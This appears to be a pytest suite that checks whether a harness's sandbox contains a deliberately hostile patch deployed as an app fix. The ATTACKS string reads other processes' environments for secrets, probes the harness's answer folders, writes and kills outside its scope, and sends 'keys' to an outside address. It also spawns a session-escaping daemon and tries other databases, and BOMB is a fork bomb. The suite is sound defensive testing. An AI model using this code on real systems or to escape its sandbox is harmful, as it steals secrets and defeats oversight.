"""A patch that means harm: each of its attacks works without containment, and fails with all that this machine has.

The same attacks are made by an ordinary user's harness too, see the last test.
"""

from __future__ import annotations

import os
import pwd
import secrets
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, replace
from pathlib import Path

import httpx
import psycopg
import pytest
import yaml

import harness
from harness.errors import FixRefused, InputError
from harness.model.app import AppManifest
from harness.model.source import SourceTree
from harness.services import firewall, users
from harness.services.containment import Containment, contained
from harness.services.postgres import postgres_running
from harness.services.reaper import descendants, processes_of
from harness.services.sandbox import Launch, LocalSandbox
from harness.services.supervisor import Supervisor
from harness.services.unprivileged import can_reach
from harness.target.process import AppFiles, ProcessTarget
from harness.target.surroundings import Surroundings

ROOT = Path(harness.__file__).resolve().parents[1]
SITE = Path(psycopg.__file__).resolve().parents[1]
DEADLINE_S = 30.0
PROGRAMS = f"{os.environ['PATH']}:/usr/sbin"
MANIFEST = """\
name: harmed
source: ["**/*.py"]
editable: ["**/*.py"]
web: {command: [python, -m, gunicorn, "app:app"]}
upstreams: [{name: payments, module: mock_api, env: PAYMENTS_URL}]
services: {postgres: DATABASE_URL, redis: REDIS_URL}
health: /health
"""
FILES = {
    "app.py": """\
from flask import Flask, request
import attacks

app = Flask(__name__)


@app.get("/health")
def health():
    return "well"


@app.get("/attack/<name>")
def attack(name):
    return [str(what) for what in getattr(attacks, name)(*request.args.getlist("on"))]
""",
    "attacks.py": "",
    "gunicorn.conf.py": """\
import os

bind = f"127.0.0.1:{os.environ['PORT']}"
worker_class, workers, threads, graceful_timeout = "gthread", 2, 4, 2
control_socket_disable = True
""",
}
ATTACKS = '''
import contextlib, os, pathlib, signal, socket, subprocess, urllib.parse


def _what_works(attack, targets):
    for target in targets:
        with contextlib.suppress(OSError, ImportError):
            attack(target)
            yield target


def environments():
    """Our own, and what can be read of all processes, our parents among them."""
    yield dict(os.environ)
    others = []
    with contextlib.suppress(OSError):
        others = [*pathlib.Path("/proc").iterdir()]
    for process in others:
        with contextlib.suppress(OSError):
            yield (process / "environ").read_bytes()


def limits():
    import resource
    return [resource.getrlimit(getattr(resource, f"RLIMIT_{name}"))[0] for name in ("NPROC", "FSIZE", "CORE")]


def see(*places):
    return _what_works(os.listdir, places)


def load(*modules):
    return _what_works(__import__, modules)


def write(*places):
    return _what_works(lambda place: (pathlib.Path(place) / "left-behind").write_text("x"), places)


def end(*pids):
    return _what_works(lambda pid: os.kill(int(pid), signal.SIGKILL), pids)


def own_code():
    return _what_works(lambda name: open(name, "a").close(), ["attacks.py"])


def leave(*hosts):
    def tcp(host):
        with contextlib.suppress(TimeoutError):  # it has left, and nobody answers
            socket.create_connection((host, 443), timeout=1.0).close()
    def udp(host):
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"keys", (host, 53))
    for way in (tcp, udp):
        yield from (f"{way.__name__} {host}" for host in _what_works(way, hosts))


def connect(*ports):
    return _what_works(lambda port: socket.create_connection(("127.0.0.1", int(port)), timeout=5).close(), ports)


def stay(mark):
    """A daemon that has left our session and our parents."""
    if child := os.fork():
        os.waitpid(child, 0)
        return [mark]
    os.setsid()
    if os.fork():
        os._exit(0)
    os.execvp("sleep", ["sleep", mark])


def databases(*names):
    import psycopg
    own = urllib.parse.urlsplit(os.environ["DATABASE_URL"])
    addresses = [own._replace(path=f"/{name}").geturl() for name in names]
    addresses += [f"postgresql://postgres@127.0.0.1:{own.port}/{name}" for name in names]
    def read(address):
        try:
            psycopg.connect(address).execute("SELECT 1")
        except psycopg.Error as error:
            raise OSError from error
    return _what_works(read, [own.geturl(), *addresses])
'''
BOMB = """
import os, pathlib
if pathlib.Path.cwd().name == "{where}":
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""


def no_bubblewrap() -> Containment:
    path, os.environ["PATH"] = os.environ["PATH"], ""
    try:
        return contained()
    finally:
        os.environ["PATH"] = path


def needed() -> Containment:
    """All that the machine has. Where programs are not installed a developer is told, and CI fails."""
    missing = [program for program in ("bwrap", "nft") if not shutil.which(program, path=PROGRAMS)]
    if missing:
        assert "CI" not in os.environ, f"CI installs {missing}, see .ci/run"
        pytest.skip("apt-get install bubblewrap nftables")
    found = contained()
    if not found.bwrap:
        pytest.skip("bubblewrap is here, and this machine forbids it")
    return found


def held(containment: Containment) -> set[str]:
    return {layer.name for layer in containment.layers() if layer.how}


@dataclass(frozen=True, slots=True, kw_only=True)
class Stage:
    target: ProcessTarget
    containment: Containment
    url: str
    supervisor: Supervisor
    folder: Path

    def attack(self, name: str, *on: object) -> list[str]:
        """What of it worked."""
        answer = httpx.get(
            f"{self.url}/attack/{name}", params={"on": [str(each) for each in on]}, timeout=DEADLINE_S, trust_env=False
        )
        found: list[str] = answer.raise_for_status().json()
        return found

    def requires(self, layer: str) -> None:
        if layer not in held(self.containment):
            pytest.skip(f"nothing holds {layer} at this level: {self.containment.text}")


@contextmanager
def staged(containment: Containment, folder: Path, **files: str) -> Iterator[Stage]:
    """The app, healthy and sound; with PostgreSQL, Valkey and an upstream beside it."""
    app, logs = folder / "app", folder / "logs"
    app.mkdir(parents=True)
    for name, text in {**FILES, **files}.items():
        (app / name).write_text(text)
    with Supervisor() as supervisor, ExitStack() as stack:
        server = postgres_running(supervisor, data=folder / "pg", log=logs / "postgres.log")
        postgres = stack.enter_context(server)
        target = ProcessTarget(
            AppFiles(folder=app, manifest=AppManifest.model_validate(yaml.safe_load(MANIFEST)), env={}),
            supervisor=supervisor,
            surroundings=Surroundings(
                supervisor=supervisor, databases=lambda: postgres, redis_url=None, logs=logs, seed=1
            ),
            logs=logs,
            ready_timeout_s=5.0,
            containment=containment,
        )
        endpoints = stack.enter_context(target.running())
        yield Stage(target=target, containment=containment, url=endpoints.url, supervisor=supervisor, folder=folder)


def patched(tree: SourceTree, text: str) -> SourceTree:
    return tree.with_files({**tree.files, "attacks.py": text})


@pytest.fixture(scope="module", params=["all", "without bubblewrap", "none"])
def attacked(request: pytest.FixtureRequest) -> Iterator[Stage]:
    """An app into which the attacks were deployed as a fix."""
    made = {"all": needed, "without bubblewrap": no_bubblewrap, "none": lambda: contained("none")}
    with tempfile.TemporaryDirectory() as name, staged(made[request.param](), Path(name)) as stage:
        stage.target.redeploy(patched(stage.target.source(), ATTACKS), "attack")
        yield stage


@pytest.fixture
def open_folders(attacked: Stage) -> Iterator[list[Path]]:
    """Folders in all kinds of places, themselves closed to nobody."""
    with ExitStack() as stack:
        folders = [
            Path(stack.enter_context(tempfile.TemporaryDirectory(dir=place)))
            for place in (None, "/var/tmp", "/dev/shm", Path.home(), attacked.folder)
        ]
        for folder in folders:
            folder.chmod(0o777)
        yield folders


def until(done: Callable[[], object]) -> None:
    deadline = time.monotonic() + DEADLINE_S
    while not done():
        assert time.monotonic() < deadline, "still not so after the deadline"
        time.sleep(0.02)


def running(mark: str) -> set[int]:
    """Who has this word in its command line."""
    found = set()
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if mark.encode() in (entry / "cmdline").read_bytes().split(b"\0"):
                found.add(int(entry.name))
        except OSError:
            continue
    return found


# --- one attack each ---


def works(stage: Stage, layer: str) -> bool:
    """Whether the attack is to succeed: where nothing is in its way, to see that it is one."""
    if not stage.containment.active:
        return True
    stage.requires(layer)
    return False


def test_keys_in_other_processes_environments(attacked: Stage) -> None:
    own = attacked.attack("environments")[0]
    assert "SECRET" not in own and "API_KEY" not in own and str(ROOT) not in own.replace(os.environ["PATH"], "")
    expected = works(attacked, "files")
    assert ("API_ADMIN_TOKEN" in "".join(attacked.attack("environments"))) is expected


def test_walking_to_what_tells_the_answer(attacked: Stage, open_folders: list[Path]) -> None:
    places = [ROOT / "scenarios", ROOT / "kb", ROOT / "harness" / "fixing", attacked.folder / "logs", *open_folders]
    expected = [str(place) for place in places] if works(attacked, "files") else []
    assert attacked.attack("see", *places) == expected
    assert expected or attacked.attack("load", "harness.loading", "mock_api") == []


def test_ending_those_beside_it(attacked: Stage) -> None:
    expected = works(attacked, "processes" if not attacked.containment.landlock else "environment")
    with subprocess.Popen(["/bin/sleep", "600"]) as victim:
        assert bool(attacked.attack("end", victim.pid)) is expected
        assert (victim.wait(DEADLINE_S) == -signal.SIGKILL) if expected else (victim.poll() is None)
        victim.kill()


def test_writing_elsewhere(attacked: Stage, open_folders: list[Path]) -> None:
    expected = [str(folder) for folder in open_folders] if works(attacked, "files") else []
    assert attacked.attack("write", *open_folders) == expected
    assert [str(folder) for folder in open_folders if (folder / "left-behind").exists()] == expected
    assert bool(attacked.attack("own_code")) is bool(expected)


def test_leaving_the_machine(attacked: Stage) -> None:
    expected = works(attacked, "network")
    left = attacked.attack("leave", "198.51.100.7")  # an address of documentation, nobody's
    if not left and expected:
        pytest.skip("this machine has no way out")
    assert bool(left) is expected


def test_other_ports_of_this_machine(attacked: Stage) -> None:
    expected = works(attacked, "network")
    if not expected and not attacked.containment.ports_only:
        pytest.skip("Landlock of this kernel knows no ports")
    import socket

    with socket.create_server(("127.0.0.1", 0)) as server:
        assert bool(attacked.attack("connect", server.getsockname()[1])) is expected


def test_other_databases(attacked: Stage) -> None:
    own, *others = attacked.attack("databases", "harness", "postgres", "template1")
    assert "/app_" in own and others == []


def test_limits_are_set(attacked: Stage) -> None:
    expected = works(attacked, "limits")
    processes, size, core = attacked.attack("limits")
    assert (core != "0" or size == "-1") is expected
    assert expected or int(processes) > 0


def test_a_daemon_ends_with_its_release(attacked: Stage) -> None:
    if works(attacked, "processes"):
        return
    mark = f"600.{secrets.randbelow(10**9):09}"
    assert attacked.attack("stay", mark) == [mark]
    until(lambda: running(mark))
    tree = attacked.target.source()
    attacked.target.redeploy(tree.with_files({**tree.files, "more.py": ""}), "something else")
    until(lambda: not running(mark))
    assert attacked.attack("limits"), "the app itself goes on"


# --- what ends how ---


@pytest.mark.parametrize("level", ["all", "without bubblewrap"])
@pytest.mark.parametrize("where", ["canary", "workspace"])
def test_a_patch_that_forks_without_end(where: str, level: str, tmp_path: Path) -> None:
    containment = needed() if level == "all" else no_bubblewrap()
    if not {"limits", "processes"} <= held(containment):
        pytest.skip(f"nothing bounds processes at this level: {containment.text}")
    with staged(containment, tmp_path) as stage:
        before = stage.target.source()
        try:
            stage.target.redeploy(patched(before, BOMB.format(where=where)), "fork")
        except FixRefused as refused:
            assert refused.rule in ("canary", "live")
        else:
            assert where == "workspace"
            stage.target.rollback()
        assert stage.target.source().files == before.files
        until(lambda: stage_answers(stage))
        assert len(descendants(os.getpid())) < 100, "the bomb is gone, the app is there"


def stage_answers(stage: Stage) -> bool:
    try:
        return httpx.get(f"{stage.url}/health", timeout=2.0, trust_env=False).text == "well"
    except httpx.HTTPError:
        return False


def test_a_daemon_does_not_outlive_the_target(tmp_path: Path) -> None:
    mark = f"600.{secrets.randbelow(10**9):09}"
    with staged(needed(), tmp_path, **{"attacks.py": ATTACKS}) as stage:
        stage.attack("stay", mark)
        until(lambda: running(mark))
    until(lambda: not running(mark))


KILLED = """
import sys, time
from pathlib import Path
sys.path[:0] = [{root!r}, {tests!r}]
import test_containment as stages
containment = stages.contained() if sys.argv[3] == "all" else stages.no_bubblewrap()
with stages.staged(containment, Path(sys.argv[1]), **{{"attacks.py": stages.ATTACKS}}) as stage:
    stage.attack("stay", sys.argv[2])
    print("up", flush=True)
    time.sleep(600)
"""


@pytest.mark.parametrize("level", ["all", "without bubblewrap"])
def test_after_kill_9_of_the_harness_nothing_of_the_app_is_left(level: str, tmp_path: Path) -> None:
    containment = needed() if level == "all" else no_bubblewrap()
    if "processes" not in held(containment):
        pytest.skip(f"nothing ends daemons at this level: {containment.text}")
    mark = f"600.{secrets.randbelow(10**9):09}"
    code = KILLED.format(root=str(ROOT), tests=str(Path(__file__).parent))
    command = [sys.executable, "-c", code, str(tmp_path / "stage"), mark, level]
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout and process.stdout.readline() == "up\n"
        family = [each.pid for each in descendants(process.pid)]
        assert running(mark)
        process.kill()
    until(lambda: not running(mark))
    until(lambda: not any(Path(f"/proc/{pid}").exists() for pid in family))
    if containment.nft:  # its rules have nobody left to hold, and go with the next trial
        with users.lent(1) as uids, firewall.loopback_only(uids):
            tables = subprocess.check_output(["nft", "list", "tables"], text=True).split()
        ours = [int(name.rpartition("_")[2]) for name in tables if name.startswith("creamandonion_")]
        assert all(users.is_lent(uid) or uid in uids for uid in ours)


# --- who is used, and what is told ---


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can be somebody else")
def test_a_user_is_lent_once_and_all_that_it_runs_ends() -> None:
    assert users.available()
    with users.lent(2) as first, users.lent(2) as second:
        assert len({*first, *second}) == 4 and all(users.is_lent(uid) for uid in (*first, *second))
    assert not users.is_lent(first[0])
    with Supervisor() as supervisor, users.lent(1) as [uid]:
        with supervisor.owning(uid):
            hidden = "import os, time; os.setsid() if os.fork() == 0 else os._exit(0); time.sleep(600)"
            subprocess.run(["/usr/bin/python3", "-c", hidden], user=uid, group=uid, extra_groups=[], check=True)
            assert processes_of(uid)
        assert not processes_of(uid)


def test_strict_names_what_is_missing_and_the_cure(monkeypatch: pytest.MonkeyPatch) -> None:
    assert contained("none").text == "none" and held(contained("none")) == {"environment"}
    if {"limits", "files", "processes", "network", "user"} <= held(needed()):
        assert contained("strict") == replace(contained(), strict=True)
    away = contained(services=("postgresql://user@db.example:5432/shop", None))
    assert "network" not in held(away) and not away.nft
    with pytest.raises(InputError, match="network"):
        contained("strict", services=("redis://cache.example/0",))
    assert contained(services=("redis://127.0.0.1/0",)) == contained()
    monkeypatch.setenv("PATH", "")
    if len(held(contained())) < 6:
        with pytest.raises(InputError, match="not kept apart by") as told:
            contained("strict")
        assert "apt-get install bubblewrap" in told.value.cure


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can be somebody else")
@pytest.mark.parametrize("who", ["an ordinary user", "root with a Python that everybody can run"])
def test_all_of_this_holds_for_others_too(who: str) -> None:
    needed()
    uid = min(user.pw_uid for user in pwd.getpwall() if user.pw_uid)
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    candidates = [Path(sys.executable), Path("/usr/bin", version)]
    python = next((path for path in candidates if path.exists() and can_reach(path, uid)), None)
    if python is None or not can_reach(SITE / "x", uid) or not can_reach(ROOT / "x", uid):
        pytest.skip("no Python with the dependencies where an ordinary user can reach it")
    with tempfile.TemporaryDirectory() as name:
        home = Path(name)
        home.chmod(0o755)
        subprocess.run([python, "-m", "venv", "--without-pip", home / "venv"], check=True)
        (home / "venv" / "lib" / version / "site-packages" / "all.pth").write_text(f"{SITE}\n")
        somebody = {"user": uid, "group": uid, "extra_groups": []} if who == "an ordinary user" else {}
        if somebody:
            subprocess.run(["chown", "-R", f"{uid}:{uid}", name], check=True)
        command = [
            home / "venv/bin/python",
            "-m",
            "pytest",
            "-q",
            "-p",
            "no:cacheprovider",
            "-p",
            "pytest_timeout",
            __file__,
        ]
        command += ["-k", "not others" if somebody else "without"]
        env = {name: os.environ[name] for name in ("PATH", "CI") if name in os.environ}
        env |= {"HOME": name, "TMPDIR": name, "PYTHONDONTWRITEBYTECODE": "1", "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}
        done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, check=False, **somebody)
    assert done.returncode == 0, done.stdout[-8000:] + done.stderr[-2000:]
    assert " passed" in done.stdout
    print(done.stdout)


@pytest.mark.parametrize("elsewhere", [True, False])
def test_names_can_be_looked_up_where_a_service_is_elsewhere_and_only_there(elsewhere: bool, tmp_path: Path) -> None:
    means = Containment(active=True, bwrap="bwrap", elsewhere=elsewhere)
    launch = Launch(name="web", role="live", command=["python"], folder=tmp_path, tmp=tmp_path / "tmp", env={})
    command = LocalSandbox(means, {}, None).launched(launch).command
    assert ("/etc/resolv.conf" in command) == (elsewhere and Path("/etc/resolv.conf").exists())
